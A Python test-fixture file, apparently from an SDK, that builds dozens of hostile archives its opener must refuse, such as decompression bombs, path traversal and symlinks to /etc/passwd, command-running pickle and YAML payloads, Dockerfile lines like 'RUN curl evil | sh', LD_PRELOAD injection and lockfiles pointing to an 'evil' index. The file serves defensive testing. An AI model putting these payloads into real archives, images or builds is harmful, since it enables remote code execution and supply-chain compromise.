"""Archives that must be refused, each for a reason of its own."""

from __future__ import annotations

import gzip
import io
import lzma
import tarfile
import zipfile
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import lz4.frame
from tampering import Tampered, file_member, member, packed, xz

from konfuzio_sdk.opening.limits import LIMITS, Limits

if TYPE_CHECKING:
    from collections.abc import Callable

__all__ = ["HOSTILE", "Hostile"]

_DOCKERFILE = "env/docker/Dockerfile"
_LOCK = "src/requirements.txt"


@dataclass(frozen=True)
class Hostile:
    """An archive, and the part of the error that says what is wrong with this one and no other."""

    name: str
    made: Callable[[Tampered], bytes]
    told: str
    limits: Limits = field(default=LIMITS)


def _with(*members: tuple[tarfile.TarInfo, bytes], kind: int = tarfile.PAX_FORMAT) -> Callable[[Tampered], bytes]:
    """A valid archive with further members."""

    def made(valid: Tampered) -> bytes:
        files = [file_member(name, content) for name, content in sorted(valid.files.items())]
        return packed([*files, *members], kind)

    return made


def _header(name: bytes = b"src/x", **fields: bytes) -> bytes:
    """A header that tarfile would not write."""
    at = {"size": (124, 12), "prefix": (345, 155), "magic": (257, 8), "link": (157, 100), "kind": (156, 1)}
    content = bytearray(512)
    defaults = {"size": b"00000000000\0", "magic": b"ustar\x0000", "kind": b"0"}
    content[: len(name)] = name
    for field_, value in {**defaults, **fields}.items():
        start, width = at[field_]
        content[start : start + min(width, len(value))] = value
    content[148:156] = b" " * 8
    content[148:156] = b"%06o\0 " % sum(content)
    return bytes(content)


def _raw(*blocks: bytes) -> Callable[[Tampered], bytes]:
    return lambda _: xz(b"".join(blocks) + bytes(1024))


def _extended(records: bytes) -> bytes:
    return _header(b"pax", kind=b"x", size=b"%011o\0" % len(records)) + records + bytes(-len(records) % 512)


def _record(key: bytes, value: bytes) -> bytes:
    body = b" " + key + b"=" + value + b"\n"
    length = len(body) + len(str(len(body) + 2))
    return str(length).encode() + body


def _bomb(_: Tampered) -> bytes:
    compressor = lzma.LZMACompressor(preset=0)
    head = packed([member("zeros", size=512 * 1024**2)])[:512]
    zeros = bytes(1024**2)
    return b"".join([compressor.compress(head), *(compressor.compress(zeros) for _ in range(200)), compressor.flush()])


def _zip(
    *entries: tuple[str, bytes], attributes: int = 0, comment: bytes = b"", flags: int = 0
) -> Callable[[Tampered], bytes]:
    def made(_: Tampered) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as written:
            for name, content in entries:
                info = zipfile.ZipInfo(name)
                info.external_attr = attributes << 16
                info.compress_type = zipfile.ZIP_DEFLATED
                written.writestr(info, content)
            written.comment = comment
        content = bytearray(buffer.getvalue())
        if flags:
            content[content.index(b"PK\x01\x02") + 8] |= flags
        return bytes(content)

    return made


def _changed(change: Callable[[Tampered], object], seal: str = "") -> Callable[[Tampered], bytes]:
    """A valid archive with changed files; `seal` is what of it a forger made right again."""

    def made(valid: Tampered) -> bytes:
        change(valid)
        if seal:
            getattr(valid, seal)()
        return valid.tar()

    return made


def _forged(name: str, old: str, new: str) -> Callable[[Tampered], bytes]:
    """A valid archive with a change of one file, and all digests and versions made right again."""
    return _changed(lambda valid: valid.replace(name, old, new), "everything")


def _added(name: str, text: str, seal: str = "everything") -> Callable[[Tampered], bytes]:
    return _changed(lambda valid: valid.add(name, text), seal)


def _manifest(
    change: Callable[[dict], object], seal: str = "everything", *, beside: bool = True
) -> Callable[[Tampered], bytes]:
    return _changed(lambda valid: valid.change_manifest(change, beside=beside), seal)


def _pickle(content: bytes, size: int | None = None, *, tail: bytes = b"") -> Callable[[Tampered], bytes]:
    """An archive with another pickle, that its manifest describes."""

    def change(valid: Tampered) -> None:
        valid.replace_pickle(lz4.frame.compress(content) + tail, len(content) if size is None else size)

    return _changed(change, "everything")


_CONTAINERS = [
    Hostile("nothing", lambda _: b"", "it is no archive: neither tar"),
    Hostile("text", lambda _: b"Dear customer,\n" * 100, "it is no archive: neither tar"),
    Hostile("a compressed text", lambda _: gzip.compress(b"Dear customer,\n" * 100), "it is no archive: neither tar"),
    Hostile("cut off in xz", lambda valid: xz(valid.tar())[:-4000], "it ends before its content does"),
    Hostile("cut off in tar", lambda valid: xz(valid.tar()[:-200_000]), "it ends before its content does"),
    Hostile("cut off in gzip", lambda valid: gzip.compress(valid.tar())[:-40], "it ends before its content does"),
    Hostile(
        "damaged xz",
        lambda valid: xz(valid.tar())[:5000] + b"\0" * 9 + xz(valid.tar())[5009:],
        "compressed data is damaged",
    ),
    Hostile("after xz", lambda valid: xz(valid.tar()) + b"more", "other data follows the end of the compressed data"),
    Hostile("two xz streams", lambda valid: xz(valid.tar()) * 2, "other data follows the end of the compressed data"),
    Hostile(
        "after gzip",
        lambda valid: gzip.compress(valid.tar()) + b"x",
        "other data follows the end of the compressed data",
    ),
    Hostile("after tar", lambda valid: xz(valid.tar() + valid.tar()), "other data follows the end of the tar file"),
    Hostile(
        "between tar's ends",
        lambda valid: xz(valid.tar().rstrip(b"\0") + bytes(1024) + b"x" * 512),
        "other data follows the end of the tar file",
    ),
    Hostile("a bomb by ratio", _bomb, "times its size, like a bomb"),
    Hostile(
        "a bomb by count",
        _with(*(file_member(f"src/{number}") for number in range(200))),
        "more than 100 files and folders",
        Limits(members=100),
    ),
    Hostile(
        "a bomb by folders",
        _with(*(file_member(f"src/{number}/a/b/c/d") for number in range(50))),
        "more than 100 files and folders",
        Limits(members=100),
    ),
    Hostile("a giant file", _raw(_header(size=b"37777777777\0")), "the file is larger than 2147483648 bytes"),
    Hostile(
        "giant in all", lambda valid: xz(valid.tar()), "it unpacks to more than 100000 bytes", Limits(total=100_000)
    ),
]
_KINDS = [
    Hostile(
        "symbolic link", _with(member("src/link", tarfile.SYMTYPE, linkname="/etc/passwd")), "it is a symbolic link"
    ),
    Hostile("hard link", _with(member("src/link", tarfile.LNKTYPE, linkname="bento.yaml")), "it is a hard link"),
    Hostile("character device", _with(member("src/null", tarfile.CHRTYPE, devmajor=1, devminor=3)), "it is a device"),
    Hostile("block device", _with(member("src/disk", tarfile.BLKTYPE, devmajor=8)), "it is a device"),
    Hostile("pipe", _with(member("src/pipe", tarfile.FIFOTYPE)), "it is a pipe"),
    Hostile("sparse file", _raw(_header(kind=b"S")), "it is a sparse file"),
    Hostile("unknown kind", _raw(_header(kind=b"Z")), "it is of the unknown kind"),
    Hostile("contiguous file", _raw(_header(kind=b"7")), "it is of the unknown kind"),
    Hostile(
        "GNU long name",
        _with(file_member("src/" + "a" * 150), kind=tarfile.GNU_FORMAT),
        "it is a GNU header for a long name",
    ),
    Hostile("file with a link's target", _raw(_header(link=b"/etc/passwd")), "the file names a link's target"),
    Hostile(
        "folder with content", _raw(_header(kind=b"5", size=b"00000001000\0"), bytes(512)), "the folder has content"
    ),
    Hostile("link in a zip", _zip(("src/link", b"/etc/passwd"), attributes=0o120777), "it is a symbolic link"),
    Hostile("device in a zip", _zip(("src/null", b""), attributes=0o020777), "it is of an unknown kind"),
    Hostile("encrypted in a zip", _zip(("src/a", b"x"), flags=1), "the file is encrypted"),
]
_HEADERS = [
    Hostile(
        "global header",
        lambda valid: xz(packed([file_member("src/a"), *valid.members], pax_headers={"comment": "x"})),
        "it is a header for all members",
    ),
    Hostile("overridden size", _raw(_extended(_record(b"size", b"99")), _header()), "a header overrides 'size'"),
    Hostile(
        "overridden link", _raw(_extended(_record(b"linkpath", b"/etc")), _header()), "a header overrides 'linkpath'"
    ),
    Hostile(
        "sparse by records",
        _raw(_extended(_record(b"GNU.sparse.major", b"1")), _header()),
        "a header overrides 'GNU.sparse.major'",
    ),
    Hostile(
        "two names",
        _raw(_extended(_record(b"path", b"../../etc/passwd")), _header(b"src/a")),
        "its headers say two names",
    ),
    Hostile("record twice", _raw(_extended(_record(b"path", b"src/x") * 2), _header()), "says 'path' twice"),
    Hostile(
        "malformed record",
        _raw(_extended(b"9999 path=src/x\n"), _header()),
        "a header that extends another is malformed",
    ),
    Hostile(
        "two extended headers",
        _raw(_extended(_record(b"mtime", b"1")) * 2, _header()),
        "is followed by another such header",
    ),
    Hostile("giant extended header", _raw(_header(kind=b"x", size=b"00077777777\0")), "is empty or longer than"),
    Hostile("wrong checksum", lambda valid: xz(b"X" + valid.tar()[1:]), "the checksum of a header in it is wrong"),
    Hostile(
        "no header", lambda _: xz(packed([file_member("a")])[:512] + b"x" * 1024), "a header in it is no tar header"
    ),
    Hostile("negative size", _raw(_header(size=b"\xff" * 12)), "the size in a header is no octal number"),
    Hostile("giant size", _raw(_header(size=b"\x80" + b"\xff" * 11)), "the size in a header is no octal number"),
    Hostile("signed size", _raw(_header(size=b"-0000000001\0")), "the size in a header is no octal number"),
    Hostile("GNU extensions", _raw(_header(magic=b"ustar  \0", prefix=b"../..")), "a GNU archive with extensions"),
    Hostile("comment after a zip", _zip(("src/a", b"x"), comment=b"trailing"), "or other data follows its end"),
    Hostile(
        "before a zip's member",
        lambda _: b"PK\x03\x04" + b"\0" * 60 + _zip(("a", b"x"))(_),
        "list of members is not where its end says",
    ),
    Hostile("a bomb in a zip", _zip(("src/a", bytes(300_000))), "times its size, like a bomb", Limits(ratio_free=1000)),
]
_NAMES = [
    Hostile("traversal", _with(file_member("../escaped", b"x")), "the part '..', which leads elsewhere"),
    Hostile("traversal inside", _with(file_member("src/../../escaped", b"x")), "the part '..', which leads elsewhere"),
    Hostile("absolute", _with(file_member("/escaped", b"x")), "the path is absolute"),
    Hostile("drive", _with(file_member("C:/escaped", b"x")), "the path is absolute"),
    Hostile("backslash", _with(file_member("..\\escaped", b"x")), "the path has a backslash"),
    Hostile("empty part", _with(file_member("src//escaped", b"x")), "the path has an empty part"),
    Hostile("dot", _with(file_member("src/./escaped", b"x")), "the part '.', which leads elsewhere"),
    Hostile("file that is a folder by name", _raw(_header(b"src/x/")), "the path has an empty part"),
    Hostile("control character", _with(file_member("src/a\x1b[2J", b"x")), "the name has a control character"),
    Hostile("right to left", _with(file_member("src/a\u202etxt.py", b"x")), "the name has a control character"),
    Hostile("hidden after NUL", _raw(_header(b"src/a\0b")), "the name holds a NUL character"),
    Hostile(
        "NUL in a long name",
        _raw(_extended(_record(b"path", b"src/x\0y")), _header()),
        "the name holds a NUL character",
    ),
    Hostile("no UTF-8", _raw(_header(b"src/\xff\xfe")), "the name is no UTF-8"),
    Hostile("device's name", _with(file_member("src/NUL.txt", b"x")), "the name is reserved on some systems"),
    Hostile("dot at the end", _with(file_member("src/a.", b"x")), "the name is reserved on some systems"),
    Hostile("stream of a file", _with(file_member("src/a:b", b"x")), "the name is reserved on some systems"),
    Hostile("long name", _with(file_member("src/" + "a" * 201, b"x")), "a name in the path is longer than 200 bytes"),
    Hostile(
        "long path", _with(file_member("/".join(["src", *["a" * 50] * 9]), b"x")), "the path is longer than 400 bytes"
    ),
    Hostile("deep nesting", _with(file_member("a/" * 30 + "b", b"x")), "the path is nested more than 20 folders deep"),
    Hostile("twice", _with(file_member("bento.yaml", b"x")), "the archive has this path twice"),
    Hostile(
        "case collision",
        _with(file_member("Bento.yaml", b"x")),
        "where upper and lower case, or spelling, do not count",
    ),
    Hostile(
        "folders' case collision",
        _with(file_member("SRC/x", b"x")),
        "where upper and lower case, or spelling, do not count",
    ),
    Hostile(
        "spelling collision",
        _with(file_member("src/\u00e9"), file_member("src/e\u0301")),
        "where upper and lower case, or spelling, do not count",
    ),
    Hostile(
        "folder under a file", _with(file_member("bento.yaml/x", b"x")), "'bento.yaml' is a file, and here a folder"
    ),
    Hostile("file over a folder", _with(file_member("src", b"x")), "the path is a folder, and here a file"),
]
_CONTENTS = [
    Hostile(
        "no manifest",
        _changed(lambda valid: valid.files.pop("src/manifest.json")),
        "the archive has no manifest (src/manifest.json)",
    ),
    Hostile(
        "wrong digest",
        _changed(lambda valid: valid.add("README.md", "x")),
        "'README.md': the file is not the one that was sealed",
    ),
    Hostile(
        "extra file",
        _added("src/sitecustomize.py", "import canary", seal=""),
        "the file is not in the manifest: somebody added it",
    ),
    Hostile(
        "missing file",
        _changed(lambda valid: valid.files.pop("README.md")),
        "the file is in the manifest, and missing in the archive",
    ),
    Hostile("no files in the manifest", _manifest(lambda said: said.update(files={}), ""), "it lists no files"),
    Hostile(
        "shadowing module",
        _added("src/konfuzio_sdk/__init__.py", "import canary"),
        "no archive that this SDK makes has a file there",
    ),
    Hostile(
        "unknown format",
        _manifest(lambda said: said.update(format="konfuzio-manifest-9"), ""),
        "its format is 'konfuzio-manifest-9'",
    ),
    Hostile(
        "key twice in the manifest",
        _changed(lambda valid: valid.replace("src/manifest.json", '"bundled"', '"name": "x",\n "bundled"')),
        "the key 'name' is there twice",
    ),
    Hostile(
        "key unknown in the manifest",
        _manifest(lambda said: said.update(hook="x"), ""),
        "it is no manifest: Extra inputs",
    ),
    Hostile(
        "deep manifest",
        _changed(lambda valid: valid.files.update({"src/manifest.json": b"[" * 100_000})),
        "no JSON that can be relied on: it is nested too deep",
    ),
    Hostile(
        "giant manifest",
        _changed(lambda valid: valid.files.update({"src/manifest.json": b" " * 17 * 1024**2})),
        "too large for what it should hold",
    ),
    Hostile(
        "latest model",
        _manifest(lambda said: said["model"].update(tag="categorization_1:latest"), ""),
        "'categorization_1:latest' says latest",
    ),
    Hostile(
        "tag that leads elsewhere",
        _manifest(lambda said: said["model"].update(tag="a:../../../etc"), ""),
        "'a:../../../etc' is none that BentoML knows",
    ),
    Hostile(
        "latest Bento",
        _changed(lambda valid: valid.set_version("latest"), "digests"),
        "'categorization_1:latest' says latest",
    ),
    Hostile(
        "tag collision",
        _changed(lambda valid: valid.add("src/licenses.json", " "), "digests"),
        "it is another Bento",
    ),
    Hostile(
        "model's tag collision",
        _manifest(lambda said: said.update(metadata={"a": "b"}), "digests"),
        "it is another model",
    ),
    Hostile(
        "forged requirements",
        _manifest(lambda said: said["inputs"].update(requires_images=True), "digests"),
        "it is another model",
    ),
    Hostile(
        "another name",
        _changed(lambda valid: valid.replace("bento.yaml", "name: categorization_1", "name: extraction_1"), "digests"),
        "the Bento is named 'extraction_1'",
    ),
    Hostile(
        "second model",
        _added("models/other/1/model.pkl", "x", "digests"),
        "an archive has one model, and this is another",
    ),
    Hostile(
        "another version is the latest",
        _added("models/categorization_1/latest", "2qytjiwhoc7flhbp", ""),
        "'models/categorization_1/latest': the file is not in the manifest",
    ),
    Hostile(
        "manifests differ",
        _manifest(lambda said: said.update(git_commit="0" * 40), "everything", beside=False),
        "it says otherwise than src/manifest.json of 'git_commit'",
    ),
    Hostile(
        "record differs",
        _changed(
            lambda valid: valid.replace(f"{valid.model}model.pkl.lz4.json", '"ai_type": "', '"ai_type": "x'),
            "everything",
        ),
        "the pickle's record contradicts the manifest's 'ai_type'",
    ),
    Hostile(
        "model is a module",
        _changed(lambda valid: valid.replace(f"{valid.model}model.yaml", "module: ''", "module: os"), "everything"),
        "it names the module 'os'",
    ),
    Hostile(
        "golden response changed",
        _changed(lambda valid: valid.add(f"{valid.model}golden/1.response.json", " "), "everything"),
        "1.response.json: the file is another than the one",
    ),
    Hostile(
        "golden sample added",
        _changed(lambda valid: valid.files.update({f"{valid.model}golden/9.request.json": b"{}"}), "everything"),
        "it is no golden sample of the manifest",
    ),
    Hostile("pickle bomb", _pickle(bytes(50 * 1024**2), 1000), "unpacks into more than"),
    Hostile("hidden after the pickle", _pickle(b"\x80\x05N.", tail=b"hidden"), "bytes after its end"),
    Hostile("pickle that runs a command", _pickle(b"\x80\x05cos\nsystem\n(S'touch canary'\ntR."), "The pickle"),
]
_BENTO_FILE = [
    Hostile(
        "YAML bomb",
        _changed(lambda valid: valid.add("bento.yaml", "a: &a [x, x]\nb: [*a, *a]\n"), "digests"),
        "an anchor or an alias",
    ),
    Hostile(
        "YAML tag",
        _changed(
            lambda valid: valid.add("bento.yaml", "a: !!python/object/apply:os.system ['touch canary']\n"), "digests"
        ),
        "which asks for an object of a class",
    ),
    Hostile(
        "YAML key twice",
        _changed(lambda valid: valid.add("bento.yaml", "name: other\n"), "digests"),
        "it has the key 'name' twice",
    ),
    Hostile(
        "YAML merge",
        _changed(lambda valid: valid.add("bento.yaml", "<<: {a: b}\n"), "digests"),
        "it merges a mapping into another",
    ),
    Hostile(
        "two YAML documents",
        _changed(lambda valid: valid.add("bento.yaml", "---\nname: other\n"), "digests"),
        "it has more than one document",
    ),
    Hostile(
        "deep YAML",
        _changed(lambda valid: valid.add("bento.yaml", "a: " + "[" * 80 + "]" * 80 + "\n"), "digests"),
        "it is nested more than 64 deep",
    ),
    Hostile(
        "damaged YAML",
        _changed(lambda valid: valid.add("bento.yaml", "a: [\n"), "digests"),
        "no YAML that can be relied on: it is damaged",
    ),
    Hostile(
        "no YAML mapping",
        _changed(lambda valid: valid.files.update({"bento.yaml": b"- a\n"}), "digests"),
        "it is no mapping of names",
    ),
    Hostile(
        "docker options",
        _changed(lambda valid: valid.add("bento.yaml", "docker: {setup_script: x}\n"), "digests"),
        "it has the key 'docker'",
    ),
    Hostile(
        "arguments",
        _changed(lambda valid: valid.replace("bento.yaml", "args: {}", "args: {a: b}"), "digests"),
        "'args' is {'a': 'b'}",
    ),
    Hostile(
        "injected variable",
        _changed(
            lambda valid: valid.replace(
                "bento.yaml", "\nenvs:\n", "\nenvs:\n- {name: LD_PRELOAD, value: ./x.so, stage: all}\n"
            ),
            "digests",
        ),
        "'envs' is [{'name': 'LD_PRELOAD'",
    ),
    Hostile(
        "dependency",
        _changed(
            lambda valid: valid.replace("bento.yaml", "  dependencies: []", "  dependencies: [{url: 'http://evil'}]"),
            "digests",
        ),
        "is another, or depends on others",
    ),
    Hostile(
        "another model served",
        _changed(
            lambda valid: valid.replace("bento.yaml", "  - tag: categorization_1:", "  - tag: categorization_2:"),
            "digests",
        ),
        "the service loads the models",
    ),
    Hostile(
        "configured otherwise",
        _changed(
            lambda valid: valid.replace(
                "bento.yaml", "    traffic:", "    runner_probe: {enabled: true}\n    traffic:"
            ),
            "digests",
        ),
        "may be by its traffic alone",
    ),
    Hostile(
        "own service",
        _changed(lambda valid: valid.replace("bento.yaml", "service: service_", "service: own_"), "digests"),
        "the archive has a service of its own",
    ),
    Hostile(
        "changed service file",
        _changed(lambda valid: valid.add(valid.service, "import canary\n"), "everything"),
        "is not the one that this SDK generates",
    ),
]
_IMAGE = [
    Hostile(
        "injected RUN",
        _changed(
            lambda valid: valid.replace(_DOCKERFILE, "USER bentoml", "RUN curl evil | sh\n\nUSER bentoml"), "digests"
        ),
        "'RUN curl evil | sh'",
    ),
    Hostile(
        "injected after a step",
        _changed(lambda valid: valid.replace(_DOCKERFILE, "-R\nWORKDIR", "-R && curl evil\nWORKDIR"), "digests"),
        "-R && curl evil'",
    ),
    Hostile(
        "injected ENV",
        _changed(lambda valid: valid.replace(_DOCKERFILE, "ENV LANG", "ENV LD_PRELOAD=/x.so\nENV LANG"), "digests"),
        "'ENV LD_PRELOAD=/x.so'",
    ),
    Hostile(
        "injected ADD",
        _changed(lambda valid: valid.add(_DOCKERFILE, "ADD http://evil /\n"), "digests"),
        "steps, and BentoML makes",
    ),
    Hostile(
        "another frontend",
        _changed(
            lambda valid: valid.files.update({_DOCKERFILE: b"# syntax=evil/frontend\n" + valid.files[_DOCKERFILE]}),
            "digests",
        ),
        "'# syntax=evil/frontend'",
    ),
    Hostile(
        "injected command",
        _changed(lambda valid: valid.replace("bento.yaml", "  commands: []", "  commands: [curl evil]"), "digests"),
        "the image's 'commands' is not what this SDK has made: ['curl evil']",
    ),
    Hostile(
        "another base image",
        _changed(
            lambda valid: valid.replace("bento.yaml", "base_image: python:", "base_image: evil/python:"), "digests"
        ),
        "the image's 'base_image' is not what this SDK has made",
    ),
    Hostile(
        "scripts",
        _changed(lambda valid: valid.replace("bento.yaml", "\nimage:\n", "\nimage:\n  scripts: {a: b}\n"), "digests"),
        "the image has the key 'scripts'",
    ),
    Hostile(
        "entrypoint",
        _added("env/docker/entrypoint.sh", "curl evil\n", "digests"),
        "the script is none that BentoML writes",
    ),
]
_LOCKFILE = [
    Hostile("index", _added(_LOCK, "--index-url http://evil\n"), "it has an option, and may have requirements alone"),
    Hostile("unhashed", _added(_LOCK, "evil==1\n"), "it has a requirement without a digest: 'evil==1'"),
    Hostile("unpinned", _added(_LOCK, "evil>=1\n"), "pinned to an exact version by ==: 'evil>=1'"),
    Hostile("address", _added(_LOCK, "evil @ http://evil/x.whl\n"), "pinned to an exact version by ==: 'evil @"),
    Hostile("editable", _added(_LOCK, "-e ./x\n"), "requirements alone: '-e ./x'"),
    Hostile(
        "option after a requirement",
        _added(_LOCK, f"evil==1 --hash=sha256:{'0' * 64} --index-url=http://evil\n"),
        "something else than digests after a requirement",
    ),
    Hostile(
        "another file of requirements",
        _added("env/python/requirements.txt", "evil==1\n", "digests"),
        "it has BentoML install something besides the lockfile",
    ),
    Hostile(
        "wheels that nobody told of", _added("src/wheelhouse/evil-1-py3-none-any.whl", "x"), "dependencies are not in"
    ),
    Hostile(
        "wheel that is not locked",
        _changed(
            lambda valid: valid.change_manifest(lambda said: said.update(bundled=True)).add(
                "src/wheelhouse/evil-1-py3-none-any.whl", "x"
            ),
            "everything",
        ),
        "the lockfile does not name this wheel",
    ),
    Hostile("wheels missing", _manifest(lambda said: said.update(bundled=True)), "dependencies are in the archive"),
    Hostile("another Python", _added("src/python-version.txt", "3.10.0\n"), "it is not the manifest's Python"),
    Hostile(
        "another wheel",
        _changed(
            lambda valid: valid.add(next(name for name in valid.files if name.endswith(".whl")), "x"), "everything"
        ),
        "the digest of the SDK's wheel is not that of the file",
    ),
]
HOSTILE = [*_CONTAINERS, *_KINDS, *_HEADERS, *_NAMES, *_CONTENTS, *_BENTO_FILE, *_IMAGE, *_LOCKFILE]
